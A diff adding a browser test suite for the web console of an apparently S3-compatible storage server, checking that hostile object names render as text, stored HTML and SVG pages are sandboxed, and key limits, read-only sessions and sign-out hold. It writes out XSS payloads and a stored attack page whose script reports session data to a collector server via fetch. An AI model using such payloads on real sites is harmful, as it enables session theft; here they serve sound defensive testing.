@@ -1,0 +1,179 @@
+import { createServer } from 'node:http'
+import t, { type Test } from 'tap'
+import { startBrowser, Tab } from '../support/programs/browser.js'
+import { runCli } from '../support/server/cli.js'
+import { type Dealgate, startDealgate } from '../support/server/dealgate.js'
+import { listen } from '../support/server/listen.js'
+import { send, targetOf } from '../support/sign/send.js'
+
+type Browser = NonNullable<Awaited<ReturnType<typeof startBrowser>>>
+
+const HOSTILE = [
+  '<img src=x onerror="document.title=1">.txt',
+  '"><script>alert(1)</script>',
+  'photo\u202egnp.exe',
+  'it\'s "quoted" & &lt;b&gt;.txt',
+  'line\nbreak.txt',
+  `${'long '.repeat(200)}end`,
+  'javascript:alert(1)',
+  '__proto__',
+]
+
+t.test('safety', async (t) => {
+  const browser = await startBrowser(t)
+  if (!browser) return
+  const server = await startDealgate(t, { args: ['--console-port', '0'] })
+  await send(server, { method: 'PUT', target: '/photos' })
+  await t.test('names of others are text', (t) => names(t, browser, server))
+  await t.test('a stored page cannot reach the console', (t) => attack(t, browser, server))
+  await t.test('a limited key pair sees its prefix', (t) => limited(t, browser, server))
+  await t.test('a session that only reads changes nothing', (t) => readOnly(t, browser, server))
+  await t.test('a session stays in its tab, and ends', (t) => staying(t, browser, server))
+})
+
+async function names(t: Test, browser: Browser, server: Dealgate): Promise<void> {
+  for (const key of HOSTILE) {
+    const headers = { 'content-type': 'text/html', 'x-amz-meta-note': '<b onclick=alert(1)>' }
+    await send(server, {
+      method: 'PUT',
+      target: targetOf('photos', key),
+      headers,
+      body: Buffer.from('<script>document.title="run"</script>'),
+    })
+  }
+  const tab = await Tab.open(t, browser, server)
+  await tab.signIn()
+  await tab.goTo('#/buckets/photos/objects')
+  await tab.sees(`1 folder and ${HOSTILE.length - 1} objects on this page`)
+  t.same(await tab.accessibility(), [])
+  const text = await tab.text()
+  t.match(text, '<img src=x onerror="document.title=1">.txt')
+  t.match(text, 'photoU+202Egnp.exe')
+  t.match(text, 'lineU+000Abreak.txt')
+  t.notMatch(text, '\u202e')
+  t.equal(await tab.page.evaluate('document.querySelectorAll("main img, main script").length'), 0)
+  for (const key of HOSTILE) {
+    await tab.goTo(`#/buckets/photos/object?${new URLSearchParams({ key })}`)
+    await tab.sees('<b onclick=alert(1)>')
+    await tab.click('button', 'Show a preview')
+    await tab.sees('<script>document.title="run"</script>')
+    t.match(await tab.page.title(), /· dealgate$/)
+    await tab.goTo('#/buckets')
+    await tab.sees('Create bucket')
+  }
+  t.same(tab.complaints, [])
+}
+
+/** As an attacker would who can store objects, and whose page a person visits who is signed in. */
+async function attack(t: Test, browser: Browser, server: Dealgate): Promise<void> {
+  const taken: string[] = []
+  const thief = createServer((incoming, outgoing) => {
+    taken.push(incoming.url ?? '')
+    outgoing.writeHead(204, { 'access-control-allow-origin': '*' }).end()
+  })
+  const url = await listen(thief)
+  t.teardown(() => thief.close())
+  const page = `<!doctype html><title>page</title><script>
+    const tell = (what) => fetch('${url}/' + what)
+    tell('ran')
+    try { tell('storage-' + sessionStorage.length) } catch {}
+    fetch('${server.console}/config.json').then(() => tell('read')).catch(() => {})
+    const opened = window.open('${server.console}')
+    setTimeout(() => { try { tell('document-' + opened.document.title) } catch {} }, 500)
+  </script><iframe src="${server.console}"></iframe>`
+  const policy = {
+    Version: '2012-10-17',
+    Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::public/*' }],
+  }
+  await send(server, { method: 'PUT', target: '/public' })
+  await send(server, { method: 'PUT', target: '/public?policy', body: Buffer.from(JSON.stringify(policy)) })
+  for (const [name, type] of [
+    ['page.html', 'text/html'],
+    ['page.svg', 'image/svg+xml'],
+  ] as const)
+    await send(server, {
+      method: 'PUT',
+      target: `/public/${name}`,
+      headers: { 'content-type': type },
+      body: Buffer.from(page),
+    })
+
+  const tab = await Tab.open(t, browser, server)
+  await tab.signIn({ boxes: ['Stay signed in in this tab'] })
+  const { page: visited } = tab
+  for (const name of ['page.html', 'page.svg']) {
+    const answer = await visited.goto(`${server.endpoint}/public/${name}`)
+    t.equal(answer?.status(), 200)
+    t.equal(answer?.headers()['content-security-policy'], 'sandbox')
+    await visited.waitForNetworkIdle()
+  }
+  // A page of another origin, with scripts that run.
+  const other = createServer((_, outgoing) =>
+    outgoing.writeHead(200, { 'content-type': 'text/html' }).end('<title>other</title>'),
+  )
+  const address = await listen(other)
+  t.teardown(() => other.close())
+  await visited.goto(address)
+  const outcome = await visited.evaluate(`(async () => {
+    const refused = (url, init) => fetch(url, init).then(() => 'read', () => 'refused')
+    return [await refused('${server.console}/config.json'), await refused('${server.endpoint}/', { headers: { authorization: 'AWS4-HMAC-SHA256 x' } })]
+  })()`)
+  t.same(outcome, ['refused', 'refused'])
+  t.same(taken, [], 'no script of a stored page ran')
+}
+
+async function limited(t: Test, browser: Browser, server: Dealgate): Promise<void> {
+  const added = await runCli(['keys', 'add', '--data', server.data, '--right', 'read:photos/mine/', '--print', 'json'])
+  const { accessKeyId: id, secretAccessKey: secret } = JSON.parse(added.stdout)
+  await send(server, { method: 'PUT', target: '/photos/mine/a.txt', body: Buffer.from('a') })
+  await send(server, { method: 'PUT', target: '/photos/theirs/b.txt', body: Buffer.from('b') })
+  const tab = await Tab.open(t, browser, server)
+  await tab.signIn({ pair: { id, secret } })
+  await tab.goTo('#/buckets/photos/objects?prefix=mine%2F')
+  await tab.sees('1 object on this page')
+  await tab.goTo('#/buckets/photos/objects?prefix=theirs%2F')
+  await tab.sees('Not allowed')
+  t.notMatch(await tab.text(), 'b.txt')
+  await tab.goTo('#/buckets/photos/object?key=theirs%2Fb.txt')
+  await tab.sees('AccessDenied')
+  t.same(await tab.accessibility(), [])
+  t.same(tab.complaints, [])
+}
+
+async function readOnly(t: Test, browser: Browser, server: Dealgate): Promise<void> {
+  const tab = await Tab.open(t, browser, server)
+  await tab.signIn({ boxes: ['Read only'] })
+  await tab.sees('read only')
+  await tab.click('link', 'photos')
+  await tab.click('checkbox', 'Select mine/')
+  await tab.click('button', 'Delete…')
+  await tab.click('button', 'Delete 1 object')
+  await tab.sees('Access')
+  t.equal((await send(server, { method: 'HEAD', target: '/photos/mine/a.txt' })).status, 200)
+  await tab.goTo('#/buckets')
+  await tab.click('button', 'Create bucket')
+  await tab.fill('Name', 'more-photos')
+  await tab.click('button', 'Create')
+  await tab.sees('AccessDenied')
+  t.equal((await send(server, { method: 'HEAD', target: '/more-photos' })).status, 404)
+  t.same(tab.complaints, [])
+}
+
+async function staying(t: Test, browser: Browser, server: Dealgate): Promise<void> {
+  const tab = await Tab.open(t, browser, server)
+  await tab.signIn()
+  t.equal(await tab.page.evaluate('sessionStorage.length + localStorage.length + document.cookie.length'), 0)
+  await tab.page.reload()
+  await tab.signIn({ boxes: ['Stay signed in in this tab'] })
+  t.notMatch(await tab.page.evaluate('JSON.stringify(sessionStorage)'), server.secretKey)
+  await tab.page.reload()
+  await tab.sees('Sign out')
+  await tab.click('button', 'Sign out')
+  await tab.sees('Sign in to dealgate')
+  t.equal(await tab.page.evaluate('sessionStorage.length'), 0)
+  await tab.fill('Access key id', server.accessKey)
+  await tab.fill('Secret access key', 'wrong-secret')
+  await tab.click('button', 'Sign in')
+  await tab.sees('SignatureDoesNotMatch')
+  t.same(tab.complaints, [])
+}
